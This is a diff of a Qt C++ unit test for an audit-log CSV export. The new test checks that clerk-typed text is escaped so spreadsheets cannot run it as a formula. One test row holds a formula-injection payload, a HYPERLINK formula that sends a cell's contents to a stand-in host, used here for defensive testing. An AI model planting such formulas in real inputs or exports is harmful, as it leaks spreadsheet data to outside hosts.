@@ -84,7 +84,7 @@ private Q_SLOTS:
             m_many.append(citizens.insert(test::CitizenBuilder().withName(u"Burger"_s, u"Nummer %1"_s.arg(i)).build()).value_or(0));
         }
         // An Peeters has an account with her name.
-        AccountService accounts(*m_audit, 1000);
+        AccountService accounts(*m_audit, PasswordHash::Cost::Light);
         QVERIFY(accounts.createFirstAdministrator(u"beheer"_s, QString(), u"een lang wachtwoord"_s, u"ws"_s));
         StaffAccount account;
         account.username = an.name;
@@ -190,6 +190,35 @@ private Q_SLOTS:
         QCOMPARE(lines.first(), u"sequence,time,staff_member,role,workstation,action,citizen_id,purpose_code,purpose,outcome,anomalies"_s);
         QVERIFY2(lines.at(1).contains(u",\"Belt \"\"dringend\"\", zegt ze\","_s), qPrintable(lines.at(1)));
         QVERIFY2(lines.at(1).endsWith(u",success,outside_office_hours;nothing_registered"_s), qPrintable(lines.at(1)));
+    }
+
+    // A purpose typed by a clerk that a spreadsheet would run as a formula is inert in the export.
+    void csvCellsAreNeverFormulas_data()
+    {
+        QTest::addColumn<QString>("typed");
+        QTest::addColumn<QString>("cell");
+        QTest::newRow("hyperlink") << u"=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"_s << u"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klik\"\")\""_s;
+        QTest::newRow("plus") << u"+32 470 12 34 56"_s << u"'+32 470 12 34 56"_s;
+        QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
+        QTest::newRow("at") << u"@SUM(1)"_s << u"'@SUM(1)"_s;
+        QTest::newRow("tab") << u"\t=1"_s << u"'\t=1"_s;
+        QTest::newRow("plain") << u"Vraag over afval"_s << u"Vraag over afval"_s;
+    }
+
+    void csvCellsAreNeverFormulas()
+    {
+        QFETCH(QString, typed);
+        QFETCH(QString, cell);
+        AuditRow row;
+        row.entry.sequence = 4;
+        row.entry.time = QDateTime(QDate(2026, 3, 2), QTime(10, 0), Qt::UTC);
+        row.entry.actor = u"an.balie"_s;
+        row.entry.action = AuditAction::ProfileOpened;
+        row.entry.purposeCode = u"other"_s;
+        row.entry.purposeText = typed;
+        const QStringList lines = QString::fromUtf8(AuditQueryService::toCsv({row})).split(u"\r\n"_s, Qt::SkipEmptyParts);
+        QCOMPARE(lines.size(), 2);
+        QVERIFY2(lines.at(1).contains(u",other,"_s + cell + u","_s), qPrintable(lines.at(1)));
     }
 };
 
